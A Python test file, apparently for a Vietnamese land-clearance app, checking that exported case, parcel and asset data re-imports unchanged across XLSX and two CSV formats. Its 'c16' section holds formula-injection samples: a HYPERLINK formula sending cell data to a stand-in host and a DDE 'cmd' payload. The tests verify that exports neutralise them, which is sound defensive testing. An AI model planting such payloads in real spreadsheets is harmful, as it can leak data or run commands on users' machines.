"""A phase exported in the import format re-imports with no change, in XLSX, CSV and CSV for Vietnamese Excel.

The export is downloaded as Hữu Lũng staff would (/imports/template/?phase=…) and read back with
the import's dry run; every case, parcel and asset must come back "unchanged" (docs/decisions/0013).
"""

import csv
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from clearance.exports import FORMULA_STARTS
from clearance.models import Asset, Case, LandParcel
from clearance.services.imports import ImportRejected, import_file
from tests.clearance.test_imports import CSV_HEADERS, FILES
from tests.factories import AssetFactory, CaseFactory, LandParcelFactory
from zones.models import AdminUnit

TEMPLATE = reverse("clearance:import_template")
FORMATS = ["xlsx", "csv", "csv_vi"]
# One separator then exactly three digits: "1.234" or "10,000", which an import cannot read one way only.
AMBIGUOUS = re.compile(r"\d[.,]\d{3}(?!\d)")


def export(client, phase, file_format):
    params = {"phase": phase.pk}
    if file_format != "xlsx":
        params["format"] = file_format
    response = client.get(TEMPLATE, params)
    assert response.status_code == 200
    return response.content


def file_name(file_format):
    return "kiem-dem.xlsx" if file_format == "xlsx" else "kiem-dem.csv"


def dry_run(user, phase, content, file_format):
    try:
        plan, _record = import_file(
            user=user, phase=phase, file_name=file_name(file_format), content=content, dry_run=True
        )
    except ImportRejected as rejection:
        errors = [str(error) for error in rejection.plan.errors[:5]] if rejection.plan else []
        pytest.fail(f"the export does not re-import: {rejection.message} {errors}")
    return plan


def changes(plan):
    """(created, updated) of cases, parcels and assets; all zeros when nothing would change."""
    return {name: (getattr(plan, name).create, getattr(plan, name).update) for name in ("cases", "parcels", "assets")}


def assert_no_change(plan, cases, parcels, assets):
    assert changes(plan) == {"cases": (0, 0), "parcels": (0, 0), "assets": (0, 0)}, [
        (sample.code, sample.changes) for sample in plan.sample if sample.changes
    ]
    assert (plan.cases.unchanged, plan.parcels.unchanged, plan.assets.unchanged) == (cases, parcels, assets)


def csv_rows(content, delimiter):
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))
    header = rows[0]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def distinct_assets(phase):
    """Assets as the import identifies them: case, kind, description, unit."""
    return len(
        set(Asset.objects.filter(case__phase=phase).values_list("case", "kind", "description", "unit_of_measure"))
    )


# --- the demo ------------------------------------------------------------------------------------


@pytest.mark.parametrize("file_format", FORMATS)
def test_the_demo_phase_re_imports_with_no_change(client, huu_lung, demo, file_format):
    client.force_login(huu_lung)
    plan = dry_run(huu_lung, demo, export(client, demo, file_format), file_format)
    assert not plan.errors
    assert_no_change(
        plan,
        cases=Case.objects.filter(phase=demo).count(),
        parcels=LandParcel.objects.filter(case__phase=demo).count(),
        assets=distinct_assets(demo),
    )


@pytest.mark.parametrize(("file_format", "delimiter"), [("csv", ","), ("csv_vi", ";")])
def test_no_exported_number_reads_two_ways(client, huu_lung, demo, file_format, delimiter):
    client.force_login(huu_lung)
    rows = csv_rows(export(client, demo, file_format), delimiter)
    numbers = ("Diện tích (m²)", "Diện tích thu hồi (m²)", "Loại đất", "Tài sản")
    shapes = [row[header] for row in rows for header in numbers if AMBIGUOUS.search(row[header])]
    assert shapes == []
    other_mark = "." if file_format == "csv_vi" else ","
    assert not any(other_mark in row["Diện tích (m²)"] for row in rows)


# --- numbers, land uses, blanks, ID numbers, and two assets of the same kind --------------------


@pytest.fixture
def mixed_case(vsip_phase):
    """A case with a decimal area over a thousand, two uses, blanks, an ID with a leading zero and alike assets."""
    ho_son = AdminUnit.objects.get(code=6451, structure=AdminUnit.Structure.LEGACY)
    case = CaseFactory(phase=vsip_phase, unit=ho_son, code="RT-1", id_number="020185001234", address="", village="")
    LandParcelFactory.with_uses(
        [("ONT", Decimal("200")), ("CLN", Decimal("1034.5"))],
        case=case,
        map_sheet_no=116,
        parcel_no=7,
        recovered_area_m2=Decimal("1000"),
    )
    LandParcelFactory(case=case, map_sheet_no=116, parcel_no=8, area_m2=Decimal("2500"), recovered_area_m2="2500")
    # Two crops alike, one on each parcel: the import knows them as one asset (case, kind, description, unit).
    AssetFactory(case=case, kind=Asset.Kind.CROP, description="Lúa", quantity=Decimal("500"), unit_of_measure="m²")
    AssetFactory(case=case, kind=Asset.Kind.CROP, description="Lúa", quantity=Decimal("300.5"), unit_of_measure="m²")
    # Two trees of the same kind but different descriptions: two assets.
    AssetFactory(case=case, kind=Asset.Kind.TREE, description="Cây vải", quantity=Decimal("12.5"))
    AssetFactory(case=case, kind=Asset.Kind.TREE, description="Cây na", quantity=Decimal("1000"))
    return case


@pytest.mark.parametrize("file_format", FORMATS)
def test_a_case_with_assets_alike_re_imports_with_no_change(client, huu_lung, mixed_case, file_format):
    client.force_login(huu_lung)
    plan = dry_run(huu_lung, mixed_case.phase, export(client, mixed_case.phase, file_format), file_format)
    assert not plan.errors
    assert_no_change(plan, cases=1, parcels=2, assets=3)


def test_a_new_total_of_assets_alike_goes_to_the_oldest_and_the_others_go(client, huu_lung, mixed_case):
    """Editing the exported total of the two "Lúa" rows leaves one asset with the new total (decision 0013)."""
    client.force_login(huu_lung)
    workbook = openpyxl.load_workbook(io.BytesIO(export(client, mixed_case.phase, "xlsx")))
    sheet = workbook["Tài sản"]
    (quantity,) = [row[3] for row in sheet.iter_rows(min_row=2) if row[2].value == "Lúa"]
    quantity.value = 900
    out = io.BytesIO()
    workbook.save(out)
    oldest = Asset.objects.filter(case=mixed_case, description="Lúa").earliest("id")
    plan, _record = import_file(user=huu_lung, phase=mixed_case.phase, file_name="lua.xlsx", content=out.getvalue())
    assert changes(plan) == {"cases": (0, 0), "parcels": (0, 0), "assets": (0, 1)}
    lua = Asset.objects.filter(case=mixed_case, description="Lúa")
    assert [(asset.pk, asset.quantity) for asset in lua] == [(oldest.pk, Decimal("900"))]
    assert Asset.history.filter(case_id=mixed_case.pk, history_type="-").count() == 1
    assert Asset.objects.filter(case=mixed_case).count() == 3


def test_the_xlsx_writes_real_numbers_text_ids_and_alike_assets_once(client, huu_lung, mixed_case):
    client.force_login(huu_lung)
    workbook = openpyxl.load_workbook(io.BytesIO(export(client, mixed_case.phase, "xlsx")))
    first = sheet_rows(workbook["Thửa đất"])[0]
    assert first["Số CCCD"] == "020185001234"
    assert first["Diện tích (m²)"] == 1234.5 and first["Diện tích thu hồi (m²)"] == 1000
    assert isinstance(first["Diện tích thu hồi (m²)"], int)
    assert first["Loại đất"] == "ONT 200; CLN 1034.5"
    assert first["Thôn"] is None and first["Địa chỉ"] is None
    assets = sorted((row["Mô tả"], row["Số lượng"]) for row in sheet_rows(workbook["Tài sản"]))
    assert assets == [("Cây na", 1000), ("Cây vải", 12.5), ("Lúa", 800.5)]


def sheet_rows(sheet):
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize(
    ("file_format", "delimiter", "area", "uses", "assets"),
    [
        ("csv", ",", "1234.5", "ONT 200; CLN 1034.5", "hoa màu | Lúa | 800.5 | m²; cây | Cây vải | 12.5 | cây"),
        ("csv_vi", ";", "1234,5", "ONT 200; CLN 1034,5", "hoa màu | Lúa | 800,5 | m²; cây | Cây vải | 12,5 | cây"),
    ],
)
def test_the_csvs_write_plain_numbers_in_their_decimal_mark(
    client, huu_lung, mixed_case, file_format, delimiter, area, uses, assets
):
    client.force_login(huu_lung)
    first, second = csv_rows(export(client, mixed_case.phase, file_format), delimiter)
    assert (first["Số CCCD"], first["Diện tích (m²)"], first["Diện tích thu hồi (m²)"]) == (
        "020185001234",
        area,
        "1000",
    )
    assert first["Loại đất"] == uses
    assert first["Tài sản"].startswith(assets) and first["Tài sản"].endswith("cây | Cây na | 1000 | cây")
    assert (second["Diện tích (m²)"], second["Loại đất"], second["Tài sản"]) == ("2500", "LUC", "")


def test_the_vietnamese_csv_is_named_for_it(client, huu_lung, vsip_phase):
    client.force_login(huu_lung)
    response = client.get(TEMPLATE, {"phase": vsip_phase.pk, "format": "csv_vi"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="kiem-dem-giai-doan-{vsip_phase.pk}-excel-vi.csv"'
    assert response.content.decode("utf-8-sig").split("\r\n")[0].startswith("Mã hồ sơ;Loại đối tượng;")


# --- formulas: c16 -------------------------------------------------------------------------------

C16_NAMES = {
    "T16-01": '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào")',
    "T16-02": "+84 Nguyễn Văn Cộng",
    "T16-03": "-Hộ ông Dấu Trừ",
    "T16-04": "@SUM(1+1)*cmd|' /C calc'!A0",
}


@pytest.fixture
def c16(huu_lung, vsip_phase):
    """c16_formula_injection.csv imported as Hữu Lũng staff: the names are stored as typed."""
    content = (FILES / "c16_formula_injection.csv").read_bytes()
    import_file(user=huu_lung, phase=vsip_phase, file_name="c16_formula_injection.csv", content=content)
    assert dict(Case.objects.filter(phase=vsip_phase).values_list("code", "name")) == C16_NAMES
    return vsip_phase


def test_the_xlsx_export_quotes_formulas_as_text(client, huu_lung, c16):
    client.force_login(huu_lung)
    workbook = openpyxl.load_workbook(io.BytesIO(export(client, c16, "xlsx")))
    sheet = workbook["Thửa đất"]
    names = {}
    for row in sheet.iter_rows(min_row=2):
        names[row[0].value] = row[2]
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            assert not (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)), cell.coordinate
    for code, name in C16_NAMES.items():
        assert names[code].data_type == "s"
        assert names[code].value == "'" + name


@pytest.mark.parametrize(("file_format", "delimiter"), [("csv", ","), ("csv_vi", ";")])
def test_the_csv_exports_quote_formulas(client, huu_lung, c16, file_format, delimiter):
    client.force_login(huu_lung)
    rows = csv_rows(export(client, c16, file_format), delimiter)
    assert {row["Mã hồ sơ"]: row["Họ tên / tên tổ chức"] for row in rows} == {
        code: "'" + name for code, name in C16_NAMES.items()
    }
    assert not any(value.startswith(FORMULA_STARTS) for row in rows for value in row.values())


@pytest.mark.parametrize("file_format", FORMATS)
def test_quoted_formulas_re_import_as_the_names_stored(client, huu_lung, c16, file_format):
    """The import takes off the quote the export put in front (docs/decisions/0013)."""
    client.force_login(huu_lung)
    plan = dry_run(huu_lung, c16, export(client, c16, file_format), file_format)
    assert not plan.errors
    assert_no_change(plan, cases=4, parcels=4, assets=0)


# --- a case with assets and no parcel ------------------------------------------------------------


@pytest.fixture
def case_without_parcels(vsip_phase):
    """A household whose house and graves stand on land it holds no parcel of."""
    ho_son = AdminUnit.objects.get(code=6451, structure=AdminUnit.Structure.LEGACY)
    case = CaseFactory(phase=vsip_phase, unit=ho_son, code="RT-2", name="Hộ ông Lục Văn Tường", id_number="")
    AssetFactory(case=case, kind=Asset.Kind.STRUCTURE, description="Nhà tạm", quantity=Decimal("1"))
    AssetFactory(case=case, kind=Asset.Kind.GRAVE, description="Mộ đất", quantity=Decimal("2"), unit_of_measure="ngôi")
    return case


@pytest.mark.parametrize("file_format", FORMATS)
def test_a_case_without_parcels_keeps_its_assets_through_a_round_trip(
    client, huu_lung, case_without_parcels, file_format
):
    client.force_login(huu_lung)
    content = export(client, case_without_parcels.phase, file_format)
    if file_format != "xlsx":
        (row,) = csv_rows(content, ";" if file_format == "csv_vi" else ",")
        assert (row["Mã hồ sơ"], row["Họ tên / tên tổ chức"], row["Số thửa"]) == ("RT-2", "Hộ ông Lục Văn Tường", "")
        assert "Mộ đất" in row["Tài sản"] and "Nhà tạm" in row["Tài sản"]
    plan = dry_run(huu_lung, case_without_parcels.phase, content, file_format)
    assert not plan.errors
    assert_no_change(plan, cases=1 if file_format != "xlsx" else 0, parcels=0, assets=2)


def test_a_csv_row_with_assets_and_no_parcel_brings_a_new_case_and_its_assets(huu_lung, vsip_phase):
    row = {
        "Mã hồ sơ": "RT-3",
        "Loại đối tượng": "hộ gia đình",
        "Họ tên / tên tổ chức": "Hộ bà Nông Thị Lan",
        "Mã xã": "6451",
        "Cấp xã theo": "trước 2025",
        "Tài sản": "mộ | Mộ xây | 1 | ngôi",
    }
    content = "\ufeff" + ",".join(CSV_HEADERS) + "\r\n" + ",".join(row.get(h, "") for h in CSV_HEADERS) + "\r\n"
    plan, _record = import_file(user=huu_lung, phase=vsip_phase, file_name="mo.csv", content=content.encode())
    assert changes(plan) == {"cases": (1, 0), "parcels": (0, 0), "assets": (1, 0)}
    case = Case.objects.get(code="RT-3")
    assert (case.parcels.count(), [a.description for a in case.assets.all()]) == (0, ["Mộ xây"])


def test_a_csv_row_with_neither_parcel_nor_assets_still_asks_for_the_parcel(huu_lung, vsip_phase):
    content = ("\ufeff" + ",".join(CSV_HEADERS) + "\r\n" + "RT-4,hộ gia đình,Hộ ông Vi Văn Dũng"
               + "," * (len(CSV_HEADERS) - 3) + "\r\n")  # fmt: skip
    with pytest.raises(ImportRejected) as rejection:
        import_file(user=huu_lung, phase=vsip_phase, file_name="thieu.csv", content=content.encode())
    assert {error.code for error in rejection.value.plan.errors} >= {"required"}
    assert not Case.objects.filter(code="RT-4").exists()
